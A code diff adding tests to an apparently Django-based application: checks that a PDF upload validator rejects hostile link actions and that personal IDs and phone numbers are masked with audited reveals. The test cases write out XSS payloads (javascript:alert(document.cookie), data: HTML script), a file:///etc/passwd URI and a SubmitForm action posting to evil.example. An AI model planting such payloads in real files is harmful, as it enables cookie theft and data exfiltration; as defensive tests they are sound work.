@@ -96,6 +96,24 @@ def _launch_link(w):
     w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
 
 
+def _link_action(action: dict):
+    def mutate(w):
+        annot = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/A"): DictionaryObject({NameObject(k): v for k, v in action.items()}),
+            }
+        )
+        w.pages[0][NameObject("/Annots")] = ArrayObject([w._add_object(annot)])
+
+    return mutate
+
+
+def _uri(uri: str):
+    return _rewrite(_link_action({"/S": NameObject("/URI"), "/URI": TextStringObject(uri)}))
+
+
 def _page_aa(w):
     w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js_action()})
 
@@ -417,6 +435,24 @@ def test_r_k1_one_open_application_per_credit_code_by_database_constraint(alpha,
         (lambda: b"just some text, renamed to .pdf", "not_pdf"),
         (lambda: b"", "empty"),
         (lambda: b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024), "too_large"),
+        (lambda: _uri("javascript:alert(document.cookie)"), "pdf_uri_script"),
+        (lambda: _uri("  JaVa\tScRiPt:alert(1)"), "pdf_uri_script"),
+        (lambda: _uri("data:text/html,<script>alert(1)</script>"), "pdf_uri_script"),
+        (lambda: _uri("file:///etc/passwd"), "pdf_uri_script"),
+        (
+            lambda: _rewrite(
+                _link_action(
+                    {"/S": NameObject("/SubmitForm"), "/F": TextStringObject("https://evil.example/")}
+                )
+            ),
+            "pdf_form_action",
+        ),
+        (lambda: _rewrite(_link_action({"/S": NameObject("/ImportData")})), "pdf_form_action"),
+        (
+            lambda: _rewrite(_link_action({"/S": NameObject("/GoToR"), "/F": TextStringObject("x.pdf")})),
+            "pdf_remote_action",
+        ),
+        (lambda: b"<html><script>alert(1)</script></html>\n" + good_pdf(), "pdf_leading_bytes"),
     ],
     ids=[
         "encrypted",
@@ -432,6 +468,14 @@ def test_r_k1_one_open_application_per_credit_code_by_database_constraint(alpha,
         "not-a-pdf",
         "empty",
         "too-large",
+        "finding-5-uri-javascript",
+        "finding-5-uri-javascript-obfuscated",
+        "finding-5-uri-data",
+        "finding-5-uri-file",
+        "finding-5-submit-form",
+        "finding-5-import-data",
+        "finding-5-goto-remote",
+        "finding-5-html-before-header",
     ],
 )
 def test_r_d2_pdf_check_refuses_with_a_clear_code(make, code):
@@ -953,3 +997,67 @@ def test_demo_point_programme_seed_is_idempotent_and_covers_every_state(alpha, b
         ids = list(PointApplication.objects.values_list("pk", flat=True))
     for pk in ids:
         assert client.get(f"/vp/applications/{pk}/").status_code == 200
+
+
+@pytest.mark.parametrize(
+    "uri", ["https://beian.miit.gov.cn/", "http://example.com/a", "mailto:a@example.com", "#p2"]
+)
+def test_finding_5_pdf_with_ordinary_links_is_accepted(uri):
+    # given a scan with an ordinary web or mail link / when checked / then accepted unchanged
+    data = _uri(uri)
+    assert check_pdf(data, name="scan.pdf").data == data
+
+
+# --- finding 4: masked resident ID and mobiles, audited reveal ---------------------------------
+
+
+def test_finding_4_admin_sees_application_ids_and_mobiles_masked(alpha, beta):
+    # given an application on alpha
+    application, _token = submit(alpha)
+    full_id = application.manager_id_number
+    # when alpha's admin opens it
+    page = alpha.client("provider_admin").get(f"/vp/applications/{application.pk}/").content.decode()
+    # then no resident ID or mobile is shown in full, each is masked
+    for secret in (full_id, "13905710021", "13905710031", "13905710032"):
+        assert secret not in page
+    assert f"{full_id[:4]}**********{full_id[-4:]}" in page
+    assert "139****0021" in page
+    assert "139****0031" in page
+    # and opening the page was no reveal
+    with tenant_scope(alpha.provider):
+        assert not ApplicationFileAccess.objects.filter(action="reveal").exists()
+
+
+@pytest.mark.parametrize(
+    ("key", "shown"),
+    [("manager_id_number", None), ("manager_mobile", "13905710021"), ("staff_mobile.2", "13905710032")],
+)
+def test_finding_4_reveal_shows_one_value_and_is_audited(alpha, beta, key, shown):
+    application, _token = submit(alpha)
+    shown = shown or application.manager_id_number
+    admin = alpha.client("provider_admin")
+    # when the admin reveals one value
+    response = admin.post(f"/vp/applications/{application.pk}/reveal/", {"field": key})
+    # then that value (only) is on the page, and the reveal is recorded with who and what
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert shown in page
+    assert sum(v in page for v in (application.manager_id_number, "13905710021", "13905710032")) == 1
+    with tenant_scope(alpha.provider):
+        rows = list(ApplicationFileAccess.objects.filter(action="reveal").values_list("actor_id", "kind"))
+    assert rows == [(alpha.users["provider_admin"].pk, key.partition(".")[0])]
+    # and the next plain view is masked again
+    assert shown not in admin.get(f"/vp/applications/{application.pk}/").content.decode()
+
+
+def test_finding_4_reveal_refuses_unknown_fields_other_roles_and_other_tenants(alpha, beta):
+    application, _token = submit(alpha)
+    url = f"/vp/applications/{application.pk}/reveal/"
+    # an unknown field: refused, nothing shown, nothing logged
+    bad = alpha.client("provider_admin").post(url, {"field": "credit_code"})
+    assert bad.status_code == 400
+    # a reviewer of alpha, beta's admin: no access at all
+    assert alpha.client("reviewer").post(url, {"field": "manager_mobile"}).status_code in (403, 404)
+    assert beta.client("provider_admin").post(url, {"field": "manager_mobile"}).status_code == 404
+    with tenant_scope(alpha.provider):
+        assert not ApplicationFileAccess.objects.filter(action="reveal").exists()
